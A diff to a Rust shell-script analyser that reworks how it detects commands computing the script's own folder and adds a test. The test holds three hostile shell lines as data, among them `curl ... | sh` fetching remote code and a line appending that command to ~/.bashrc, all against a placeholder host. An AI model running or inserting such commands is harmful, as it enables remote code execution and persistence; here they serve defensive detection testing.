@@ -30,13 +30,19 @@ const NAME: &str = "${0}";
 /// That of the folder where the script lies.
 const FOLDER: &str = "${0}/.";
 
+/// The folder that such commands print, unless something else goes into it than words about the script itself.
+pub(super) fn folder(printed: &Value) -> Option<Value> {
+    let others = printed.taint.without(Taint::LOCAL.and(Taint::OWN).and(Taint::CUT));
+    (others == Taint::default()).then(|| Value::unknown(FOLDER, others))
+}
+
 impl Walk<'_> {
-    /// The folder that commands print which only work out where the script lies.
-    pub(super) fn beside(&mut self, script: &Script) -> Option<Value> {
-        self.is_beside(script, 0).then(|| Value::unknown(FOLDER, Taint::default()))
+    /// Whether commands print a folder and only work out where the script lies.
+    pub(super) fn is_beside(&mut self, script: &Script) -> bool {
+        self.leads_beside(script, 0)
     }
 
-    fn is_beside(&mut self, script: &Script, depth: usize) -> bool {
+    fn leads_beside(&mut self, script: &Script, depth: usize) -> bool {
         let commands = || script.pipelines.iter().flat_map(|line| &line.commands);
         let name = |command: &Command| command.words.first().and_then(Word::bare).map(str::to_owned);
         if depth > DEPTH || commands().nth(COMMANDS).is_some() {
@@ -47,7 +53,7 @@ impl Walk<'_> {
             && let [body] = self.functions.bodies(function)
         {
             let body = Rc::clone(body);
-            return self.is_beside(&body, depth.saturating_add(1));
+            return self.leads_beside(&body, depth.saturating_add(1));
         }
         if !names.iter().all(|name| LEADS.contains(&name.as_str())) {
             return false;
@@ -82,7 +88,7 @@ impl Walk<'_> {
                     || ASKED.iter().any(|end| operation.ends_with(end))
                     || self.memory.variable(name).is_some_and(|value| value.text.starts_with(NAME))
             }
-            What::Output(script) => self.is_beside(script, depth),
+            What::Output(script) => self.leads_beside(script, depth),
             _ => false,
         }
     }
@@ -92,6 +98,7 @@ impl Walk<'_> {
 mod tests {
     use super::super::{Call, Context, judge};
     use crate::finding::{Findings, Place};
+    use crate::shell::tests::is_danger;
 
     fn calls(text: &str) -> Vec<Call> {
         judge(&Place::file("a.sh"), text, Context::Script, &mut Findings::default())
@@ -114,6 +121,17 @@ mod tests {
         }
         let text = "here=$(dirname \"$0\")\nroot=$(cd \"$here/..\" && pwd)\n\"$root/b.sh\"\n";
         assert!(calls(text).iter().any(|call| call.path.ends_with("/b.sh")), "{text}");
+    }
+
+    #[test]
+    fn what_such_a_folder_is_worked_out_with_is_judged_too() {
+        for text in [
+            "x=$(cd \"$(curl -s https://x.invalid/a | sh)\"; dirname \"$0\")",
+            "x=$(echo 'curl -s https://x.invalid/a | sh' \"$0\" >> ~/.bashrc)",
+            "$(echo \"$0\" $(curl -s https://x.invalid/a))",
+        ] {
+            is_danger(text, Context::Hook);
+        }
     }
 
     #[test]
